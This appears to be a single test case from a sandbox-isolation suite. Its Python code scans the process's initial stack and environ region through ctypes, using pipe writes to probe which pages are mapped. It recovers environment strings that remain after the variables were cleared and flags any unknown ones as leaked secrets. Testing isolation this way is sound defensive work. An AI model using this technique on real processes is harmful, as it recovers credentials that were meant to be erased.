# id: CON-22-b
# title: finds a secret in the environment that the kernel laid out
# walls: full nested
# first: fresh fork
# second: none
# expect: ok
# control: bare
"""Clearing the variables leaves the bytes behind: arguments, environment and the name of the
program lie at the top of the first stack. Reads them there."""

import ctypes
import os

libc = ctypes.CDLL(None, use_errno=True)
known = (b"HOME=", b"LANG=", b"TMPDIR=", b"OMP_NUM_THREADS=", b"MKL_NUM_THREADS=", b"LD_BIND_NOW=",
         b"OPENBLAS_NUM_THREADS=", b"NUMEXPR_NUM_THREADS=", b"LC_CTYPE=", b"USER=jar", b"LOGNAME=jar", b"TZ=UTC",
         b"BLIS_NUM_THREADS=", b"NUMBA_NUM_THREADS=", b"POLARS_MAX_THREADS=", b"RAYON_NUM_THREADS=",
         b"LOKY_MAX_CPU_COUNT=", b"JE_ARROW_MALLOC_CONF=", b"_RJEM_MALLOC_CONF=")
tops = [ctypes.c_void_p.in_dll(libc, "__libc_stack_end").value,
        ctypes.c_void_p.in_dll(libc, "environ").value]
here, there = os.pipe()
strings = []
for top in tops:
    if not top:
        continue
    page, raw = top & ~4095, b""
    while libc.write(there, ctypes.c_void_p(page), 4096) == 4096:  # fails where nothing is mapped
        raw += os.read(here, 4096)
        page += 4096
    strings += [part for part in raw.split(b"\0") if b"=" in part[1:40] and part.isascii()]
strange = []
for part in strings:
    name = part.split(b"=")[0].decode()
    text = len(name) > 3 and name.isidentifier() and part.decode().isprintable()
    if text and name.isupper() and not part.startswith(known):
        strange.append(part.decode())
result = strange
if strange:
    result.append(context["flag"])
